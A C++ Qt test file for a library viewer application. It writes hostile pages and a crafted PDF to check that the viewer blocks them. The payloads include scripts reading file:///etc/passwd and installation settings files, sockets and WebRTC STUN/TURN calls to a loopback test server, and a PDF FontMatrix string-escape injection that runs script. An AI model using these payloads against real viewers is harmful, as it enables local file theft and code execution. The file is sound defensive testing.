// Hostile pages in the real window: book pages, a record page and a PDF that try to read the
// user's files or the installation's own (its settings with the full-text site's password, its
// key, its index), reach a server the test runs on 127.0.0.1 (also through a peer connection's
// STUN and TURN servers, which the engine reaches on its own), go to a place outside the library,
// or put what they read into the address of a link the user clicks. Each proves that its script
// did run and that nothing was read, nothing reached the server and nothing outside was shown; a
// benign page with a relative image, a style and a script of its own, a page of a folder linked
// from a chosen library root, and an ordinary PDF, still work.
#include <QApplication>
#include <QDeadlineTimer>
#include <QDir>
#include <QFile>
#include <QFileInfo>
#include <QImage>
#include <QNetworkDatagram>
#include <QPainter>
#include <QSignalSpy>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QUdpSocket>
#include <memory>
#include <string>
#include <vector>

#include "base/gbk.h"
#include "base/path_guard.h"
#include "core/doc/tomeva_doc.h"
#include "gui/app/tomeva_app.h"
#include "gui/common/engine_network.h"
#include "gui/common/local_content_guard.h"
#include "gui/frame/main_frame.h"
#include "gui/views/tomeva_view.h"
#include "gui_test_support.h"

namespace tomeva::gui {
namespace {

using testing::RunJs;
using testing::TestApp;

constexpr int kTimeoutMs = 60000;
// Long enough for a page's timers, sockets and loads to have run their course.
constexpr int kSettleMs = 1500;

QString U(const char* utf8) { return QString::fromUtf8(utf8); }

bool WriteBytes(const QString& path, const QByteArray& bytes) {
  QFile file(path);
  return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size();
}

// The Type 1 encryption of the font program (eexec: 55665, glyph programs: 4330).
QByteArray Encrypt(const QByteArray& plain, quint16 key) {
  QByteArray out;
  quint16 r = key;
  for (char ch : plain) {
    const auto p = static_cast<quint8>(ch);
    const quint8 c = p ^ (r >> 8);
    r = static_cast<quint16>((c + r) * 52845u + 22719u);
    out.append(static_cast<char>(c));
  }
  return out;
}

// A glyph program: four leading bytes, then the given Type 1 charstring bytes, encrypted.
QByteArray Glyph(std::initializer_list<int> bytes) {
  QByteArray plain(4, '\0');
  for (int b : bytes) plain.append(static_cast<char>(b));
  return Encrypt(plain, 4330);
}

// An embedded Type 1 font with one glyph ("A", a square) whose program names no FontMatrix, so
// that the font dictionary's FontMatrix is the one the renderer uses for the glyph's outline.
QByteArray Type1FontProgram(int* length1, int* length2) {
  const QByteArray header =
      "%!PS-AdobeFont-1.0: Probe 001\n"
      "12 dict begin\n/FontName /Probe def\n/FontType 1 def\n/PaintType 0 def\n"
      "/FontBBox {0 0 1000 1000} readonly def\n/Encoding StandardEncoding def\n"
      "currentdict end\ncurrentfile eexec\n";
  // 0 500 hsbw endchar; 0 500 hsbw 100 100 rmoveto 300 0 rlineto 0 300 rlineto
  // -300 0 rlineto closepath endchar
  const QByteArray notdef = Glyph({139, 248, 136, 13, 14});
  const QByteArray a = Glyph({139, 248, 136, 13, 239, 239, 21,  247, 192, 139, 5,
                              139, 247, 192, 5,  251, 192, 139, 5,   9,   14});
  QByteArray priv =
      "dup /Private 8 dict dup begin\n"
      "/RD {string currentfile exch readstring pop} executeonly def\n"
      "/ND {noaccess def} executeonly def\n/NP {noaccess put} executeonly def\n"
      "/lenIV 4 def\n/MinFeature {16 16} def\n/password 5839 def\n"
      "2 index /CharStrings 2 dict dup begin\n";
  priv += "/.notdef " + QByteArray::number(notdef.size()) + " RD " + notdef + " ND\n";
  priv += "/A " + QByteArray::number(a.size()) + " RD " + a + " ND\n";
  priv +=
      "end\nend\nreadonly put\nnoaccess put\ndup /FontName get exch definefont pop\n"
      "mark currentfile closefile\n";
  // Leading bytes whose encryption does not look like hexadecimal text, so that the reader
  // takes the section as the binary it is.
  QByteArray eexec;
  for (char seed = 'a';; ++seed) {
    eexec = Encrypt(QByteArray(4, seed) + priv, 55665);
    if (!QByteArray("0123456789abcdefABCDEF \r\n\t").contains(eexec.at(0))) break;
  }
  *length1 = static_cast<int>(header.size());
  *length2 = static_cast<int>(eexec.size());
  return header + eexec;
}

// A one-page PDF whose font's FontMatrix holds a string that breaks out of the code a renderer
// that compiles glyph outlines into functions would build: `payload` runs if it does. The text
// is drawn in a mode that also adds it to the clip, which asks for the outlines. The document
// also asks for `payload` as a JavaScript action when it opens, and its page links to that
// action.
QByteArray FontMatrixPdf(const QByteArray& payload) {
  QByteArray escaped;
  for (char c : QByteArray("0); ") + payload + "; (0") {
    if (c == '(' || c == ')' || c == '\\') escaped.append('\\');
    escaped.append(c);
  }
  QByteArray escaped_action;
  for (char c : payload) {
    if (c == '(' || c == ')' || c == '\\') escaped_action.append('\\');
    escaped_action.append(c);
  }
  int length1 = 0;
  int length2 = 0;
  const QByteArray font = Type1FontProgram(&length1, &length2);
  const QByteArray content = "BT /F1 48 Tf 4 Tr 100 600 Td (AAA) Tj ET\n";
  const std::vector<QByteArray> objects = {
      "<< /Type /Catalog /Pages 2 0 R /OpenAction 8 0 R >>",
      "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
      "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 800] /Resources << /Font << /F1 5 0 R >> "
      ">> /Contents 4 0 R /Annots [9 0 R] >>",
      "<< /Length " + QByteArray::number(content.size()) + " >>\nstream\n" + content + "endstream",
      "<< /Type /Font /Subtype /Type1 /BaseFont /Probe /FirstChar 65 /LastChar 65 /Widths [500] "
      "/FontDescriptor 6 0 R /FontMatrix [1 2 3 4 5 (" +
          escaped + ")] >>",
      "<< /Type /FontDescriptor /FontName /Probe /Flags 32 /FontBBox [0 0 1000 1000] "
      "/ItalicAngle 0 /Ascent 1000 /Descent 0 /CapHeight 1000 /StemV 80 /FontFile 7 0 R >>",
      "<< /Length " + QByteArray::number(font.size()) + " /Length1 " + QByteArray::number(length1) +
          " /Length2 " + QByteArray::number(length2) + " /Length3 0 >>\nstream\n" + font +
          "\nendstream",
      "<< /S /JavaScript /JS (" + escaped_action + ") >>",
      "<< /Type /Annot /Subtype /Link /Rect [0 0 600 800] /A 8 0 R >>",
  };
  QByteArray pdf = "%PDF-1.4\n%\xE2\xE3\xCF\xD3\n";
  std::vector<int> offsets;
  for (size_t i = 0; i < objects.size(); ++i) {
    offsets.push_back(static_cast<int>(pdf.size()));
    pdf += QByteArray::number(static_cast<int>(i + 1)) + " 0 obj\n" + objects[i] + "\nendobj\n";
  }
  const int xref = static_cast<int>(pdf.size());
  pdf += "xref\n0 " + QByteArray::number(static_cast<int>(objects.size() + 1)) + "\n";
  pdf += "0000000000 65535 f \n";
  for (int offset : offsets)
    pdf += QByteArray::number(offset).rightJustified(10, '0') + " 00000 n \n";
  pdf += "trailer\n<< /Size " + QByteArray::number(static_cast<int>(objects.size() + 1)) +
         " /Root 1 0 R >>\nstartxref\n" + QByteArray::number(xref) + "\n%%EOF\n";
  return pdf;
}

}  // namespace

class HostileGuiTest : public QObject {
  Q_OBJECT

 public:
  // Before the application object, as the program does.
  static void initMain() { CloseEngineNetwork(); }

 private slots:
  void initTestCase();
  void bookPagesReachNothingOutside();
  void recordMarkupCannotOpenASocket();
  void peerConnectionsReachNoServer();
  void webLinksOpenInTheBrowserWindowOnlyWhenClicked();
  void scriptedAddressesOpenNothingWhenTheUserClicks();
  void pagesCannotReadTheInstallationsOwnFiles();
  void topLevelLinksCountOnlyIntoAChosenRoot();
  void fontMatrixPdfRunsNothing();
  void ordinaryPdfStillShows();
  void guardJudgesRealPaths();
  void cleanupTestCase();

 private:
  CMainFrame* frame() { return app_->main_frame(); }
  CTomevaView* view() { return frame()->html_view(); }
  QString Server() { return QStringLiteral("127.0.0.1:%1").arg(server_.serverPort()); }
  // Loads `path` in the view and waits for its load and then for the page's own doings.
  bool ShowAndSettle(const QString& path);
  QString PageText() {
    return RunJs(view(), QStringLiteral("document.documentElement.outerHTML")).toString();
  }

  // Shows a page of book 1 named `name` with `body`, whose script runs last.
  bool ShowBookPage(const QString& name, const QByteArray& body);

  QTemporaryDir temp_;
  QString chosen_;  // the library root the test chooses (a reading room's shared folder)
  QString sample_;
  QString book_;  // a book folder of the sample, where the hostile pages are put
  std::unique_ptr<TestApp> app_;
  QTcpServer server_;
  QStringList contacts_;  // what reached the server: the first bytes of each connection
};

bool HostileGuiTest::ShowAndSettle(const QString& path) {
  QSignalSpy done(view(), &CMoreHtmlView::documentComplete);
  view()->Navigate(path.toStdString());
  if (!done.wait(kTimeoutMs)) return false;
  QTest::qWait(kSettleMs);
  return true;
}

bool HostileGuiTest::ShowBookPage(const QString& name, const QByteArray& body) {
  const QString page = QDir(book_).filePath(name);
  return WriteBytes(page, "<html><head><meta charset='utf-8'></head><body style='margin:0'>" +
                              body + "</body></html>") &&
         ShowAndSettle(page) && view()->url() == QUrl::fromLocalFile(page);
}

void HostileGuiTest::initTestCase() {
  // The engine starts with its network closed; the environment is given back as it was, for
  // the programs started from this one (the browser window must reach the web).
  // The private folders' variables are added before the engine starts its threads: adding a
  // variable may move the environment while one of them reads it.
  QVERIFY(temp_.isValid());
  QVERIFY(testing::UseFoldersIn(temp_));
  const QByteArray closed = qgetenv("QTWEBENGINE_CHROMIUM_FLAGS");
  QVERIFY(closed.contains("--proxy-server="));
  StartEngineAndRestoreEnvironment();
  const QByteArray given = qgetenv("QTWEBENGINE_CHROMIUM_FLAGS");
  QVERIFY(!given.contains("--proxy-server="));
  QCOMPARE(WithEngineNetworkClosed(given), closed);
  chosen_ = temp_.filePath(QStringLiteral("chosen"));
  QVERIFY(QDir().mkpath(chosen_));
  SetChosenLibraryRoots({QFile::encodeName(chosen_).toStdString()});
  sample_ = temp_.filePath(QStringLiteral("sample"));
  QVERIFY(testing::InstallSample(sample_));
  book_ = QDir(sample_).filePath(QStringLiteral("1"));
  QVERIFY(QFileInfo(book_).isDir());

  QVERIFY(server_.listen(QHostAddress::LocalHost));
  connect(&server_, &QTcpServer::newConnection, this, [this] {
    while (QTcpSocket* socket = server_.nextPendingConnection()) {
      contacts_.append(QStringLiteral("(connected)"));
      const qsizetype at = contacts_.size() - 1;
      connect(socket, &QTcpSocket::readyRead, this, [this, socket, at] {
        contacts_[at] = QString::fromLatin1(socket->readAll().left(80));
      });
    }
  });

  app_ = std::make_unique<TestApp>();
  QVERIFY(app_->InitInstance());
  QVERIFY(testing::WaitForFirstPage(view()));
}

// Each page's script leaves what it got in window.__got and sets window.__ran last: a page whose
// script did not run proves nothing.
void HostileGuiTest::bookPagesReachNothingOutside() {
  const QString server = Server();
  const struct {
    const char* name;
    QString script;
  } cases[] = {
      {"sync XHR of a file outside",
       QStringLiteral("try { var x = new XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', "
                      "false); x.send(); window.__got = x.responseText; } catch (e) {}")},
      {"fetch, XHR, WebSocket and image to the local server",
       QStringLiteral(
           "fetch('http://%1/fetch').catch(function () {});"
           "var x = new XMLHttpRequest(); x.open('GET', 'http://%1/xhr'); x.send();"
           "try { new WebSocket('ws://%1/socket'); } catch (e) {}"
           "var i = new Image(); i.src = 'http://%1/image'; document.body.appendChild(i);")
           .arg(server)},
      {"location to a file outside", QStringLiteral("location.href = 'file:///etc/passwd';")},
      {"location to a data: page and a data: frame",
       QStringLiteral("window.addEventListener('message', function (e) { window.__got = "
                      "String(e.data); });"
                      "var f = document.createElement('iframe');"
                      "f.src = 'data:text/html,<script>parent.postMessage(\"data frame ran\", "
                      "\"*\")</' + 'script>';"
                      "document.body.appendChild(f);"
                      "setTimeout(function () { location.href = 'data:text/html,<p>data page</p>'; "
                      "}, 100);")},
      {"a frame of a file outside",
       QStringLiteral("var f = document.createElement('iframe'); f.src = 'file:///etc/passwd';"
                      "f.onload = function () { try { window.__got = "
                      "f.contentDocument.body.textContent; } catch (e) {} };"
                      "document.body.appendChild(f);")},
  };
  int n = 0;
  for (const auto& c : cases) {
    const QString page = QDir(book_).filePath(QStringLiteral("hostile%1.htm").arg(++n));
    QVERIFY(WriteBytes(page,
                       "<html><head><meta charset='utf-8'><title>hostile</title></head>"
                       "<body><p>hostile page</p><script>window.__got = '';" +
                           c.script.toUtf8() + "window.__ran = true;</script></body></html>"));
    contacts_.clear();
    QVERIFY2(ShowAndSettle(page), c.name);
    QCOMPARE(view()->url(), QUrl::fromLocalFile(page));
    QVERIFY2(RunJs(view(), QStringLiteral("window.__ran === true")).toBool(), c.name);
    QCOMPARE(RunJs(view(), QStringLiteral("window.__got")).toString(), QString());
    QVERIFY2(!PageText().contains(QStringLiteral("root:")), c.name);
    QVERIFY2(contacts_.isEmpty(), qPrintable(contacts_.join(QLatin1Char('\n'))));
  }
  // The program itself cannot be made to show a file outside either (a chapter's page named
  // with "..").
  const QString shown = view()->url().toString();
  view()->Navigate(
      QDir(book_).filePath(QStringLiteral("../../../../../../etc/passwd")).toStdString());
  QTest::qWait(kSettleMs);
  QCOMPARE(view()->url().toString(), shown);
  QVERIFY(!PageText().contains(QStringLiteral("root:")));

  // A page of the library with a relative image and a script of its own still works.
  QImage picture(24, 16, QImage::Format_RGB32);
  picture.fill(Qt::darkGreen);
  QVERIFY(picture.save(QDir(book_).filePath(QStringLiteral("benign.png"))));
  const QString benign = QDir(book_).filePath(QStringLiteral("benign.htm"));
  QVERIFY(WriteBytes(benign,
                     "<html><body><img id='p' src='benign.png'><p id='t'>x</p><script>"
                     "document.getElementById('t').textContent = 'script ran';"
                     "</script></body></html>"));
  QVERIFY(ShowAndSettle(benign));
  QCOMPARE(RunJs(view(), QStringLiteral("document.getElementById('t').textContent")).toString(),
           QStringLiteral("script ran"));
  QCOMPARE(RunJs(view(), QStringLiteral("document.getElementById('p').naturalWidth")).toInt(), 24);
}

void HostileGuiTest::recordMarkupCannotOpenASocket() {
  QVERIFY(ShowAndSettle(QDir(book_).filePath(QStringLiteral("benign.htm"))));
  contacts_.clear();
  const int refused = view()->guard()->refused();
  const QString markup =
      U("<p>记录正文</p><img src=x onerror=\"window.__ran = true; try { var x = new "
        "XMLHttpRequest(); x.open('GET', 'file:///etc/passwd', false); x.send(); window.__got = "
        "x.responseText; } catch (e) {} new WebSocket('ws://%1/record?' + "
        "encodeURIComponent(window.__got || 'nothing'));\">")
          .arg(Server());
  QCOMPARE(view()->ShowHtml(Utf8ToGbk(markup.toStdString())), 1);
  // Without a filter of the record's mark-up the handler runs; what it tries must not get out.
  QTRY_VERIFY_WITH_TIMEOUT(RunJs(view(), QStringLiteral("window.__ran === true")).toBool(),
                           kTimeoutMs);
  QTest::qWait(kSettleMs);
  QCOMPARE(RunJs(view(), QStringLiteral("window.__got || ''")).toString(), QString());
  QVERIFY2(contacts_.isEmpty(), qPrintable(contacts_.join(QLatin1Char('\n'))));
  // The socket and the file were asked for and refused.
  QVERIFY(view()->guard()->refused() >= refused + 2);
}

// A page's peer connection names STUN and TURN servers on this machine, over UDP and TCP, from the
// page itself and from a blank frame it makes (which has peer connections of its own), or is
// told that the remote peer is at those addresses. The engine opens those connections itself,
// past the request guard: nothing may arrive.
void HostileGuiTest::peerConnectionsReachNoServer() {
  QUdpSocket udp;
  QVERIFY(udp.bind(QHostAddress::LocalHost, 0));
  int datagrams = 0;
  connect(&udp, &QUdpSocket::readyRead, this, [&] {
    while (udp.hasPendingDatagrams()) {
      udp.receiveDatagram();
      ++datagrams;
    }
  });
  // Gathering starts with the local description; each connection counts what it gathered.
  const QString connect_script =
      QStringLiteral(
          "function gather(Peer) {"
          "  var pc = new Peer({iceServers: ["
          "    {urls: 'stun:127.0.0.1:%1'},"
          "    {urls: ['turn:127.0.0.1:%1?transport=udp', 'turn:%2?transport=tcp'],"
          "     username: 'u', credential: 'p'}]});"
          "  pc.createDataChannel('d');"
          "  pc.onicegatheringstatechange = function () {"
          "    if (pc.iceGatheringState === 'complete') window.__gathered = true; };"
          "  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); })"
          "    .then(function () { window.__offered = true; });"
          "  window.__peers = (window.__peers || []).concat([pc]);"
          "}"
          // Or the servers are given as the remote peer's own candidates.
          "function direct(Peer) {"
          "  var pc = new Peer(), other = new Peer();"
          "  pc.createDataChannel('d');"
          "  function add(c) {"
          "    return pc.addIceCandidate({candidate: c, sdpMid: '0', sdpMLineIndex: 0}); }"
          "  pc.createOffer().then(function (o) { return pc.setLocalDescription(o); })"
          "    .then(function () { return other.setRemoteDescription(pc.localDescription); })"
          "    .then(function () { return other.createAnswer(); })"
          "    .then(function (a) { return pc.setRemoteDescription(a); })"
          "    .then(function () { return Promise.all(["
          "      add('candidate:1 1 udp 2122260223 127.0.0.1 %1 typ host'),"
          "      add('candidate:2 1 tcp 1518280447 127.0.0.1 %3 typ host tcptype passive')]); })"
          "    .then(function () { window.__offered = true; });"
          "  window.__peers = (window.__peers || []).concat([pc, other]);"
          "}")
          .arg(udp.localPort())
          .arg(Server())
          .arg(server_.serverPort());
  const struct {
    const char* name;
    QString script;
  } cases[] = {
      {"the page's own peer connection", QStringLiteral("gather(RTCPeerConnection);")},
      {"a blank frame's peer connection",
       QStringLiteral("var f = document.createElement('iframe'); document.body.appendChild(f);"
                      "gather(f.contentWindow.RTCPeerConnection);")},
      {"a remote peer's candidates", QStringLiteral("direct(RTCPeerConnection);")},
  };
  int n = 0;
  for (const auto& c : cases) {
    const QString page = QDir(book_).filePath(QStringLiteral("peer%1.htm").arg(++n));
    QVERIFY(WriteBytes(page, "<html><body><p>peer</p><script>" + connect_script.toUtf8() +
                                 c.script.toUtf8() + "window.__ran = true;</script></body></html>"));
    contacts_.clear();
    datagrams = 0;
    QVERIFY2(ShowAndSettle(page), c.name);
    QVERIFY2(RunJs(view(), QStringLiteral("window.__ran === true")).toBool(), c.name);
    // The offer was made, so the servers were asked for; give them time to be reached.
    QTRY_VERIFY2_WITH_TIMEOUT(RunJs(view(), QStringLiteral("window.__offered === true")).toBool(),
                              c.name, kTimeoutMs);
    QTest::qWait(3 * kSettleMs);
    QVERIFY2(contacts_.isEmpty(), qPrintable(contacts_.join(QLatin1Char('\n'))));
    QVERIFY2(datagrams == 0, qPrintable(QStringLiteral("%1: %2 datagrams")
                                            .arg(QString::fromLatin1(c.name))
                                            .arg(datagrams)));
  }
}

void HostileGuiTest::webLinksOpenInTheBrowserWindowOnlyWhenClicked() {
  QList<QUrl> opened;
  view()->set_web_link_opener([&opened](const QUrl& url) { opened.append(url); });
  const QString target = QStringLiteral("http://%1/link").arg(Server());
  const QString page = QDir(book_).filePath(QStringLiteral("links.htm"));
  QVERIFY(WriteBytes(page, "<html><body style='margin:0'><a id='a' href='" + target.toUtf8() +
                               "' style='display:block;width:300px;height:100px'>web</a>"
                               "<a id='f' href='file:///etc/passwd' "
                               "style='display:block;width:300px;height:100px'>file</a>"
                               "</body></html>"));
  QVERIFY(ShowAndSettle(page));
  contacts_.clear();
  // A page that clicks a link of its own opens nothing: it could put anything into the address.
  RunJs(view(), QStringLiteral("document.getElementById('a').click(); 1"));
  QTest::qWait(kSettleMs);
  QVERIFY(opened.isEmpty());
  QCOMPARE(view()->url(), QUrl::fromLocalFile(page));
  // The user's click opens the address in the browser window, not in the view.
  QWidget* input = view()->focusProxy();
  QVERIFY(input != nullptr);
  QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(50, 50));
  QTRY_COMPARE_WITH_TIMEOUT(opened.size(), 1, kTimeoutMs);
  QCOMPARE(opened.first(), QUrl(target));
  QTest::qWait(kSettleMs);
  QCOMPARE(view()->url(), QUrl::fromLocalFile(page));
  QVERIFY2(contacts_.isEmpty(), qPrintable(contacts_.join(QLatin1Char('\n'))));
  // A clicked link out of the library is refused, and the user is told.
  app_->recorded.clear();
  QTest::mouseClick(input, Qt::LeftButton, {}, QPoint(50, 150));
  QTRY_COMPARE_WITH_TIMEOUT(app_->recorded.size(), 1, kTimeoutMs);
  QVERIFY2(app_->recorded.first().contains(U("书库以外")) &&
               app_->recorded.first().contains(QStringLiteral("/etc/passwd")),
           qPrintable(app_->recorded.first()));
  QCOMPARE(opened.size(), 1);
  QTest::qWait(kSettleMs);
  QCOMPARE(view()->url(), QUrl::fromLocalFile(page));
  QVERIFY(!PageText().contains(QStringLiteral("root:")));
  app_->recorded.clear();
  view()->set_web_link_opener(nullptr);
}

// The user presses on a page whose script puts what it read into an address at the press or the
// click: the engine reports such a navigation as the user's link click, but the address is not
// the one of the link the user activated, so nothing opens. The link itself, clicked plainly
// afterwards, still opens.
void HostileGuiTest::scriptedAddressesOpenNothingWhenTheUserClicks() {
  QList<QUrl> opened;
  view()->set_web_link_opener([&opened](const QUrl& url) { opened.append(url); });
  const QString link = QStringLiteral("http://%1/link").arg(Server());
  const QString data = QStringLiteral("http://%1/?data=secret").arg(Server());
  const QByteArray layout =
      "<a id='a' href='" + link.toUtf8() +
      "' style='display:block;width:300px;height:100px'>web</a>"
      "<div id='d' style='width:300px;height:100px'>text</div><script>"
      "var a = document.getElementById('a'), d = document.getElementById('d');"
      "var data = '" +
      data.toUtf8() + "';";
  const struct {
    const char* name;
    const char* script;
    QPoint at;  // where the user clicks: (50, 50) the link, (50, 150) the text
  } cases[] = {
      {"location set when the text is pressed",
       "d.addEventListener('mousedown', function () { location.href = data; });",
       {50, 150}},
      {"location set when the text is clicked",
       "d.addEventListener('click', function () { location.href = data; });",
       {50, 150}},
      {"link's address changed when it is pressed",
       "a.addEventListener('mousedown', function () { a.href = data; });",
       {50, 50}},
      {"link's address changed when it is clicked",
       "a.addEventListener('click', function () { a.href = data; });",
       {50, 50}},
      {"location set instead of the clicked link",
       "a.addEventListener('click', function (e) { e.preventDefault(); location.href = data; });",
       {50, 50}},
      {"location set when the link is pressed",
       "a.addEventListener('mousedown', function () { location.href = data; });",
       {50, 50}},
  };
  QWidget* input = nullptr;
  int n = 0;
  for (const auto& c : cases) {
    QVERIFY2(ShowBookPage(QStringLiteral("scripted%1.htm").arg(++n),
                          layout + c.script + "window.__ran = true;</script>"),
             c.name);
    QVERIFY2(RunJs(view(), QStringLiteral("window.__ran === true")).toBool(), c.name);
    input = view()->focusProxy();
    QVERIFY(input != nullptr);
    opened.clear();
    contacts_.clear();
    QTest::mouseClick(input, Qt::LeftButton, {}, c.at);
    QTest::qWait(kSettleMs);
    // A click that followed the link itself may open it: never with the page's data.
    for (const QUrl& url : opened) QVERIFY2(url == QUrl(link), c.name);
    if (c.at.y() > 100) QVERIFY2(opened.isEmpty(), c.name);
    QVERIFY2(contacts_.isEmpty(), qPrintable(contacts_.join(QLatin1Char('\n'))));
  }
  // The last page's link, its address unchanged, pressed and clicked plainly: the user's own
  // click still opens the link's address, and only it.
  QVERIFY(ShowBookPage(QStringLiteral("plain.htm"), layout + "</script>"));
  opened.clear();
  QTest::mouseClick(view()->focusProxy(), Qt::LeftButton, {}, QPoint(50, 50));
  QTRY_COMPARE_WITH_TIMEOUT(opened.size(), 1, kTimeoutMs);
  QCOMPARE(opened.first(), QUrl(link));
  // So does a link in a frame of the page (a book's table of contents beside its text).
  QVERIFY(WriteBytes(QDir(book_).filePath(QStringLiteral("framed.htm")),
                     "<html><body style='margin:0'><a href='" + link.toUtf8() +
                         "' style='display:block;width:300px;height:100px'>web</a></body></html>"));
  QVERIFY(ShowBookPage(QStringLiteral("frames.htm"),
                       "<iframe src='framed.htm' style='border:0;width:400px;height:200px'>"
                       "</iframe>"));
  opened.clear();
  QTest::mouseClick(view()->focusProxy(), Qt::LeftButton, {}, QPoint(50, 50));
  QTRY_COMPARE_WITH_TIMEOUT(opened.size(), 1, kTimeoutMs);
  QCOMPARE(opened.first(), QUrl(link));
  view()->set_web_link_opener(nullptr);
}

// A book's script asks for the installation's own files by name (as a record's script may, with
// the full-text site's password in System.xml): each is refused, while the page's own picture,
// style sheet and script, and the book's PDF with its text copy, are read.
void HostileGuiTest::pagesCannotReadTheInstallationsOwnFiles() {
  QImage picture(24, 16, QImage::Format_RGB32);
  picture.fill(Qt::darkBlue);
  QVERIFY(picture.save(QDir(book_).filePath(QStringLiteral("own.png"))));
  QVERIFY(WriteBytes(QDir(book_).filePath(QStringLiteral("own.css")), "#t { width: 123px; }"));
  QVERIFY(WriteBytes(QDir(book_).filePath(QStringLiteral("own.js")), "window.__own = 'ran';"));
  const struct {
    const char* address;  // relative to the page in book 1
    bool readable;
  } reads[] = {
      {"../System.xml", false},
      {"../ContactInfo.xml", false},
      {"../SearchResultConfig.xml", false},
      {"../bookconfig.xml", false},
      {"../update.pub", false},
      {"../version.xml", false},
      {"../SearchDB/XAPIANDB", false},
      {"../Update/bookconfig3.xml", false},
      {"chapter.xml", false},
      {"book_0001.xml", false},
      {"../VazeZududi.api", false},
      {"own.png", true},
      {"own.css", true},
      {"838.pdf", true},
      {"838.txt", true},
      {"../home.htm", true},
  };
  QByteArray script =
      "window.__got = {};"
      "function read(a) { try { var x = new XMLHttpRequest(); x.open('GET', a, false); x.send();"
      " return x.responseText.length > 0; } catch (e) { return false; } }";
  for (const auto& r : reads) {
    script += "window.__got['" + QByteArray(r.address) + "'] = read('" + r.address + "');";
  }
  const int refused = view()->guard()->refused();
  QVERIFY(ShowBookPage(QStringLiteral("reader.htm"),
                       "<link rel='stylesheet' href='own.css'><img id='p' src='own.png'>"
                       "<p id='t'>x</p><script src='own.js'></script><script>" +
                           script + "window.__ran = true;</script>"));
  QVERIFY(RunJs(view(), QStringLiteral("window.__ran === true")).toBool());
  for (const auto& r : reads) {
    QVERIFY2(RunJs(view(), QStringLiteral("window.__got['%1']").arg(QLatin1String(r.address)))
                     .toBool() == r.readable,
             r.address);
  }
  QVERIFY(view()->guard()->refused() >= refused + 10);
  QCOMPARE(RunJs(view(), QStringLiteral("document.getElementById('p').naturalWidth")).toInt(), 24);
  QCOMPARE(RunJs(view(), QStringLiteral("getComputedStyle(document.getElementById('t')).width"))
               .toString(),
           QStringLiteral("123px"));
  QCOMPARE(RunJs(view(), QStringLiteral("window.__own")).toString(), QStringLiteral("ran"));
  // Nor can the program be made to show one of them (a record naming System.xml as its page).
  view()->Navigate(QDir(sample_).filePath(QStringLiteral("System.xml")).toStdString());
  QTest::qWait(kSettleMs);
  QCOMPARE(view()->url(), QUrl::fromLocalFile(QDir(book_).filePath(QStringLiteral("reader.htm"))));
}

// A link at the top of the library leads somewhere only when it leads into a chosen library root:
// one to /etc (as a copied library may carry) reads nothing, a reading room's shelf does.
void HostileGuiTest::topLevelLinksCountOnlyIntoAChosenRoot() {
  const QString shelf = QDir(chosen_).filePath(QStringLiteral("shelf"));
  const QString other = temp_.filePath(QStringLiteral("other"));
  for (const QString& dir : {shelf, other}) {
    QVERIFY(QDir().mkpath(dir));
    QImage picture(20, 10, QImage::Format_RGB32);
    picture.fill(Qt::darkRed);
    QVERIFY(picture.save(dir + "/pic.png"));
    QVERIFY(WriteBytes(dir + "/page.htm",
                       "<html><body><img id='p' src='pic.png'><script>window.__ran = true;"
                       "</script></body></html>"));
  }
  QVERIFY(QFile::link(QStringLiteral("/etc"), QDir(sample_).filePath(QStringLiteral("etcl"))));
  QVERIFY(QFile::link(shelf, QDir(sample_).filePath(QStringLiteral("shelf"))));
  QVERIFY(QFile::link(other, QDir(sample_).filePath(QStringLiteral("other"))));
  // The guard looks at the top-level links again a second after its last look.
  QTest::qWait(1100);
  const struct {
    const char* address;
    bool readable;
  } reads[] = {
      {"../etcl/hostname", false}, {"../etcl/passwd", false},  {"file:///etc/hostname", false},
      {"../other/pic.png", false}, {"../shelf/pic.png", true},
  };
  QByteArray script =
      "window.__got = {};"
      "function read(a) { try { var x = new XMLHttpRequest(); x.open('GET', a, false); x.send();"
      " return x.responseText; } catch (e) { return ''; } }";
  for (const auto& r : reads) {
    script += "window.__got['" + QByteArray(r.address) + "'] = read('" + r.address + "');";
  }
  QVERIFY(ShowBookPage(QStringLiteral("links-at-top.htm"),
                       "<script>" + script + "window.__ran = true;</script>"));
  QVERIFY(RunJs(view(), QStringLiteral("window.__ran === true")).toBool());
  for (const auto& r : reads) {
    const QString got =
        RunJs(view(), QStringLiteral("window.__got['%1']").arg(QLatin1String(r.address)))
            .toString();
    QVERIFY2(got.isEmpty() != r.readable, r.address);
  }
  // The shelf's page is shown with its picture; the other folder's is not shown at all.
  const QString shown = QDir(sample_).filePath(QStringLiteral("shelf/page.htm"));
  QVERIFY(ShowAndSettle(shown));
  QCOMPARE(view()->url(), QUrl::fromLocalFile(shown));
  QCOMPARE(RunJs(view(), QStringLiteral("document.getElementById('p').naturalWidth")).toInt(), 20);
  view()->Navigate(QDir(sample_).filePath(QStringLiteral("other/page.htm")).toStdString());
  QTest::qWait(kSettleMs);
  QCOMPARE(view()->url(), QUrl::fromLocalFile(shown));
  for (const char* link : {"etcl", "shelf", "other"}) {
    QVERIFY(QFile::remove(QDir(sample_).filePath(QLatin1String(link))));
  }
}

void HostileGuiTest::fontMatrixPdfRunsNothing() {
  const QString pdf = QDir(book_).filePath(QStringLiteral("fontmatrix.pdf"));
  QVERIFY(WriteBytes(pdf, FontMatrixPdf("window.__pwned = 1; document.title = \"pwned\"; "
                                        "new WebSocket(\"ws://" +
                                        Server().toLatin1() + "/pdf\")")));
  contacts_.clear();
  view()->Navigate(pdf.toStdString());
  QTRY_VERIFY_WITH_TIMEOUT(view()->IsShowingPdf(pdf.toStdString()), kTimeoutMs);
  // The page is drawn: its outlines were asked for.
  QTRY_VERIFY_WITH_TIMEOUT(
      RunJs(view(), QStringLiteral("!!(window.pdfViewer && pdfViewer.loaded && "
                                   "pdfViewer.pages[0] && pdfViewer.pages[0].state === 'drawn')"))
          .toBool(),
      kTimeoutMs);
  QTest::qWait(kSettleMs);
  QCOMPARE(RunJs(view(), QStringLiteral("pdfViewer.pageCount")).toInt(), 1);
  QCOMPARE(RunJs(view(), QStringLiteral("typeof window.__pwned")).toString(),
           QStringLiteral("undefined"));
  QVERIFY(RunJs(view(), QStringLiteral("document.title")).toString() != QStringLiteral("pwned"));
  QVERIFY2(contacts_.isEmpty(), qPrintable(contacts_.join(QLatin1Char('\n'))));
